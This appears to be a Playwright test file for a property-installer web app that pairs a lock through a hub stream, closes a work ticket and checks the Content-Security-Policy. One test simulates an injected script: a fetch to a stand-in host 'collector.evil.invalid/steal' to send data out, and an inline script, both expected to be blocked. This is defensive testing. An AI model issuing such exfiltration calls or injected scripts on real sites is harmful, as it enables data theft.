import { expect } from '@playwright/test';
import { texts } from '../../app/domain/texts';
import { productionNetwork } from '../../playwright.production.config';
import { flagNames, type FlagName } from '../../app/flags/flagNames';
import { signIn } from '../e2e/support/fixtures';
import { variantOf } from '../e2e/support/lists';
import { watchCspViolations } from './csp';
import { test } from './world';

/**
 * The production build against the simulator server over the real network: real HTTP with CORS
 * from another origin, the hub stream over a real WebSocket. What the in-page simulator cannot
 * prove: that the build a deployment ships calls its configured API and stream at all.
 */

const MAPLE_COURT = 'cmty-7d2f9a0e-maple-court';
/** Unit 1204 (address 1008): a hub, an open ticket and devices still to install. */
const UNIT_ADDRESS = 1008;

const onlyFlags = (...on: FlagName[]) => Object.fromEntries(flagNames.map((name) => [name, on.includes(name)]));

test('sign in, open a unit, include a device through the stream, close the work ticket, all under the Content-Security-Policy', async ({ page, world }) => {
  const violations = await watchCspViolations(page);
  const apiPaths: string[] = [];
  const sockets: string[] = [];
  page.on('request', (sent) => {
    if (sent.url().startsWith(productionNetwork.simulatorUrl)) apiPaths.push(new URL(sent.url()).pathname);
  });
  page.on('websocket', (socket) => sockets.push(socket.url()));
  // The flag service serves the scenario's flags: this journey's are the three it was written for.
  await world.control('startScenario', variantOf('default', { name: 'production-network', flags: onlyFlags('new-pairing', 'location-selection', 'unit-version-2') }));
  await world.control('clock.pause');

  await page.goto('/login');
  await signIn(page);
  await page.goto(`/community/${MAPLE_COURT}/unit/${UNIT_ADDRESS}`);
  const panel = page.getByRole('region', { name: texts.pairing.panelTitle });
  await panel.getByRole('button', { name: texts.pairing.include, exact: true }).click();
  const start = page.getByRole('button', { name: texts.pairing.start });
  await expect(start).toBeEnabled();
  expect(await world.control<unknown[]>('stream.connections')).toHaveLength(1);
  await start.click();
  await expect(page.getByRole('timer', { name: texts.pairing.countdown })).toBeVisible();

  // The controller's progress is on the server's clock: the device joins, is interviewed, and the network changes.
  await expect.poll(async () => (await world.control<Array<{ name: string }>>('calls')).some((call) => call.name === 'hubs.inclusion')).toBe(true);
  await world.control('clock.advance', 20_000);
  const save = page.getByRole('button', { name: texts.pairing.naming.save });
  await expect(save).toBeVisible();
  const messages = (await world.control<Array<{ type: string; message?: { state: string; status: string } }>>('trace'))
    .filter((entry) => entry.type === 'stream.sent')
    .map((entry) => `${entry.message?.state} ${entry.message?.status}`);
  expect(messages).toEqual(expect.arrayContaining(['AddNode Started', 'AddNode Done', 'NetworkChanged Done']));

  await page.getByRole('group', { name: texts.pairing.naming.suggestions }).getByRole('button', { name: 'Garage Door' }).click();
  await save.click();
  // A lock goes back to the unit; its name is saved on the server.
  await expect(panel).toBeVisible();
  const named = await world.control<Array<{ uid: string }>>('db.find', 'devices', { name: 'Garage Door' });
  expect(named).toHaveLength(1);

  await page.getByRole('button', { name: texts.unitDetail.finish }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('radio', { name: texts.finish.complete, exact: true }).check();
  await dialog.getByLabel(texts.finish.closingNotes).fill('Lock paired over the real network.');
  await dialog.getByRole('button', { name: texts.finish.submit }).click();
  await expect(page).toHaveURL(new RegExp(`/community/${MAPLE_COURT}$`));
  const submissions = await world.control<Array<{ addressId: number; body: { workTicketFields: { Status__c: string; Notes__c: string } } }>>('db.list', 'submissions');
  expect(submissions).toHaveLength(1);
  expect(submissions[0]).toMatchObject({ addressId: UNIT_ADDRESS, body: { workTicketFields: { Status__c: 'Complete', Notes__c: 'Lock paired over the real network.' } } });

  // Everything went to the configured server, from another origin: the API over HTTP, the stream over a WebSocket.
  expect(apiPaths).toEqual(expect.arrayContaining(['/api/v4/installer/login/', '/api/v4/hub/HB2-1001204/inclusion/', '/api/v4/installer/workticket/']));
  expect(sockets.map((url) => new URL(url).pathname)).toEqual(['/stream']);
  expect(await world.control<unknown[]>('stream.connections')).toHaveLength(0);
  expect(violations).toEqual([]);
});

test('the production build carries a Content-Security-Policy that admits its API and stream and refuses anything else', async ({ page }) => {
  const violations = await watchCspViolations(page);
  await page.goto('/login');
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveAttribute('content', /default-src 'self'/);
  const policy = await meta.getAttribute('content');
  const simulatorHost = new URL(productionNetwork.simulatorUrl).host;
  expect(policy).toContain("script-src 'self';");
  // Its own origin for the app-shell worker's fetches (decision 0450).
  expect(policy).toContain(`connect-src 'self' http://${simulatorHost} ws://${simulatorHost};`);
  expect(policy).toContain("worker-src 'self';");
  // MUI's styles, which emotion adds at run time, apply under the policy.
  await expect(page.getByRole('button', { name: texts.signIn.submit, exact: true })).toHaveCSS('text-transform', 'uppercase');
  expect(violations).toEqual([]);

  // What an injected script would try: send data elsewhere, or run inline code.
  const sent = await page.evaluate(() => fetch('https://collector.evil.invalid/steal').then(() => 'sent', () => 'refused'));
  expect(sent).toBe('refused');
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.head.append(script);
    return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
  });
  expect(ran).toBe(false);
  await expect.poll(() => violations.filter((violation) => violation.directive !== 'console').map((violation) => violation.directive)).toEqual(['connect-src', 'script-src-elem']);
});
